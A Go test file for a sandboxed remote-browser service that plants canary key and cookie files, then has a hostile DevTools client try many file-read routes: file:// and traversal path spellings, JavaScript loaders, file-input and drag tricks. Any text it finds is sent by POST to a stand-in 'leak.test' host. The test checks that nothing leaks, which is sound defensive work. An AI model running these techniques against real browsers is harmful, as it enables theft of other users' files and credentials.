package browser

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"warren/testnet"
)

// A hostile client tries every known way to files that are not its own. Then everything that it received is searched.

// hoard is a machine's files that no client may read, all with the canary's text: the server's, its keys, and those of another run and
// another profile.
func hoard(t *testing.T, c *canary, s *Spec) (files []string) {
	t.Helper()
	dir := tempDir(t)
	data, temps := filepath.Join(dir, "data"), filepath.Join(dir, "temps")
	own := filepath.Join(data, "profiles", "own")
	s.UserDataDir, s.TempDir, s.FilesDir = filepath.Join(own, "chrome"), filepath.Join(temps, "r1"), filepath.Join(own, "files")
	s.Protected, s.Hidden, s.Siblings = []string{data, filepath.Join(dir, "keys")}, []string{temps}, []string{temps + "/"}
	files = []string{filepath.Join(data, "admin.key"), filepath.Join(data, "profiles", "other", "chrome", "Cookies"),
		filepath.Join(temps, "r2", "upload"), filepath.Join(dir, "keys", "secret.key")}
	page, err := os.ReadFile(c.file)
	for _, file := range files {
		err = errors.Join(err, os.MkdirAll(filepath.Dir(file), 0o700), os.WriteFile(file, page, 0o600))
	}
	for _, name := range []string{"uploads", "downloads"} {
		err = errors.Join(err, os.MkdirAll(filepath.Join(s.FilesDir, name), 0o700))
	}
	if err != nil {
		t.Fatal(err)
	}
	return files
}

// half returns every other element, so that two files get different spellings.
func half(i int, all ...string) (out []string) {
	for k := i % 2; k < len(all); k += 2 {
		out = append(out, all[k])
	}
	return out
}

// addresses returns spellings of the address of the i-th file.
func addresses(i int, file string) []string {
	return half(i, "file://"+file, "FILE://localhost"+file, "file:"+file, "view-source:file://"+file, "file:///proc/self/root"+file,
		"file://"+strings.ReplaceAll(file, "a", "%61"))
}

// paths returns spellings of its path.
func paths(i int, file string) []string {
	return half(i, file, "/proc/self/root"+file, "/."+file, "//"+file, strings.Repeat("../", 12)+file, filepath.Dir(file))
}

// byScript returns ways of a page's script to an address, which stands for %q.
func byScript() []string {
	return []string{
		"location = %q", "location.replace(%q)", "open(%q)", "open(%q, '_blank', 'noopener')", "fetch(%q).then(r => r.text()).then(send)",
		"import(%q)", "new EventSource(%q)", "new Worker(%q)",
		"new SharedWorker(%q)", "navigator.sendBeacon(%q, 'x')",
		"add('iframe', {src: %q}).onload = e => send(e.target.contentDocument?.body?.innerHTML)", "add('object', {data: %q})",
		"add('embed', {src: %q})", "add('img', {src: %q})", "add('script', {src: %q})", "add('link', {rel: 'stylesheet', href: %q})",
		"add('video', {src: %q})", "add('a', {href: %q}).click()",
		"add('a', {href: %q, download: 'x'}).click()", "add('form', {action: %q}).submit()",
		"document.write('<meta http-equiv=refresh content=\"0;url=' + %q + '\">')",
		"new Worker(URL.createObjectURL(new Blob(['try { importScripts(' + JSON.stringify(%q) + ') } catch (e) {}'])))",
		"{ const x = new XMLHttpRequest(); x.onload = () => send(x.responseText); x.open('GET', %q); x.send() }",
		"history.pushState(1, '', %q)", "add('iframe', {srcdoc: '<iframe src=\"' + %q + '\">'})",
	}
}

// scripted returns what such a script finds.
const scripted = `const send = (text) => fetch("http://leak.test/leak", {method: "POST", mode: "no-cors", body: String(text)});
	const add = (kind, members) => document.body.appendChild(Object.assign(document.createElement(kind), members));`

// opening tries the commands that take an address.
func opening(s *spy, session, address string) {
	for method, params := range map[string]map[string]any{
		"Page.navigate": {"url": address},
		"Network.loadNetworkResource": {
			"url": address, "options": map[string]any{"disableCache": true, "includeCredentials": true}},
		"Page.addScriptToEvaluateOnNewDocument": {"source": fmt.Sprintf("location = %q", address)},
		"Page.getResourceContent":               {"frameId": "x", "url": address},
		"Page.setDocumentContent":               {"frameId": "x", "html": "<iframe src=" + address + ">"},
		"PWA.install":                           {"manifestId": address, "installUrlOrBundleUrl": address},
	} {
		s.ask(session, method, params)
	}
	s.ask("", "Target.createTarget", map[string]any{"url": address})
	wrapped := fmt.Sprintf(`{"id":1,"method":"Page.navigate","params":{"url":%q}}`, address)
	s.ask("", "Target.sendMessageToTarget", map[string]any{"sessionId": session, "message": wrapped})
}

// tryShares tries the commands that take a path.
func tryShares(s *spy, session, path string) {
	s.ask(session, "Runtime.evaluate", map[string]any{"expression": scripted + `document.body.innerHTML = "<input type=file multiple>"; ` +
		`const input = document.querySelector("input");
		input.onchange = async () => { for (const f of input.files) send(await f.text()) }`})
	if node := s.ask(session, "Runtime.evaluate", map[string]any{"expression": `document.querySelector("input")`}); node.Error == nil {
		s.ask(session, "DOM.setFileInputFiles", map[string]any{"files": []string{path}, "objectId": objectID(s.t, node)})
	}
	for _, kind := range []string{"dragEnter", "dragOver", "drop"} {
		data := map[string]any{"items": []any{}, "files": []string{path}, "dragOperationsMask": 1}
		s.ask(session, "Input.dispatchDragEvent", map[string]any{"type": kind, "x": 5, "y": 5, "data": data})
	}
	for method, params := range map[string]map[string]any{
		"Extensions.loadUnpacked": {"path": path}, "Browser.setDownloadBehavior": {"behavior": "allow", "downloadPath": path},
		"PWA.launchFilesInApp": {"manifestId": "x", "files": []string{path}},
		"Tracing.start":        {"perfettoConfig": path},
	} {
		s.ask("", method, params)
	}
}

func objectID(t *testing.T, m message) string {
	t.Helper()
	var r struct{ Result struct{ ObjectID string } }
	if err := json.Unmarshal(m.Result, &r); err != nil {
		t.Fatal(err)
	}
	return r.Result.ObjectID
}

// TestHostileClient: whatever a client, a page or an extension tries, no byte of a foreign file comes over its socket, in a picture or to
// its site. That holds with and without the kernel's help. A control run without any protection proves that the ways work.
func TestHostileClient(t *testing.T) {
	testnet.Long(t)
	inBothModes(t, func(t *testing.T, network string) {
		p, c := newProfile(t), newCanary(t)
		c.site(p.site)
		p.site.Mux.HandleFunc("/to", func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
		})
		spec := p.spec()
		spec.Network, spec.Files = network, map[string]string{InNamespace: FilesInNamespace, OnLoopback: FilesByGuard}[network]
		const most, mostPaths = 300, 70
		files := hoard(t, c, &spec)
		b := p.open(spec)
		if err := b.Start(t.Context()); err != nil {
			t.Fatal(err)
		}
		for _, may := range []bool{false, true} {
			s := newSpyWith(t, b, c, may)
			stop, stopped := make(chan struct{}), make(chan struct{})
			go func() { defer close(stopped); s.poll(stop) }()
			try, least := s.tryAll, most
			if may { // addresses are the same to it
				try, least = s.tryPaths, mostPaths
			}
			ways := try(b, files)
			close(stop)
			<-stopped
			s.ask("", "Browser.getVersion", nil)
			t.Logf("with the right to files %v: %d ways", may, ways)
			if got := c.ways(); len(got) > 0 || ways < least {
				t.Fatalf("with the right to files %v: after %d ways the canary came %d times, first by %.300s", may, ways, len(got),
					append(got, "")[0])
			}
		}
		s := newSpyWith(t, b, c, false)
		b.unguarded(t, s, files)
		if came := len(c.ways()) > 0; came == (network == InNamespace) {
			t.Errorf("without the guard the canary came: %v", came)
		}
	})
}

// tryAll tries each way to each file, and counts them.
func (s *spy) tryAll(b *Browser, files []string) (ways int) {
	for i, file := range files {
		for _, address := range addresses(i, file) {
			tab, session := s.client(b)
			opening(s, session, address)
			ways += 8
			for _, script := range append(byScript(), "location = 'http://a.test/to?to=' + encodeURIComponent(%q)") {
				s.send(session, "Runtime.evaluate",
					map[string]any{"expression": "{" + scripted + fmt.Sprintf(script, address) + "}", "userGesture": true})
				ways++
			}
			s.ask("", "Browser.getVersion", nil)
			b.closeAndWait(tab)
		}
	}
	return ways + s.tryPaths(b, files)
}

// tryPaths tries the ways that take a path.
func (s *spy) tryPaths(b *Browser, files []string) (ways int) {
	for i, file := range files {
		for _, path := range paths(i, file) {
			tab, session := s.client(b)
			tryShares(s, session, path)
			ways += 6
			b.closeAndWait(tab)
		}
	}
	return ways
}

// client opens a tab and attaches to it.
func (s *spy) client(b *Browser) (tab, session string) {
	s.t.Helper()
	tab = s.tab(b, "http://a.test/innocent").Target
	return tab, field(s.t, s.ask("", "Target.attachToTarget", map[string]any{"targetId": tab, "flatten": true}).Result, "sessionId")
}

// unguarded gives every file to a page by the browser's own commands, which are not checked.
func (b *Browser) unguarded(t *testing.T, s *spy, files []string) {
	t.Helper()
	tab := s.tab(b, "http://a.test/innocent")
	ctx, cancel := context.WithTimeout(t.Context(), testnet.Patience)
	defer cancel()
	for _, file := range files {
		var node struct{ Result struct{ ObjectID string } }
		input := map[string]any{"expression": `document.body.innerHTML = "<input type=file>"; document.querySelector("input")`}
		err := b.mux.call(ctx, tab.Session, "Runtime.evaluate", input, &node)
		if err == nil {
			err = b.mux.call(ctx, tab.Session, "DOM.setFileInputFiles",
				map[string]any{"files": []string{file}, "objectId": node.Result.ObjectID}, nil)
		}
		if err != nil {
			t.Logf("%s is not handed over: %v", file, err)
			continue
		}
		var text string
		read := fmt.Sprintf(`document.querySelector("input").files[0].text().then(async (text) => { await `+
			`fetch("http://leak.test/leak?%s", {method: "POST", mode: "no-cors", body: text}); return text }, String)`,
			url.QueryEscape(file))
		if err := b.mux.controller.evaluate(ctx, tab, read, &text); err != nil {
			t.Logf("%s is not read: %v", file, err)
		}
	}
}
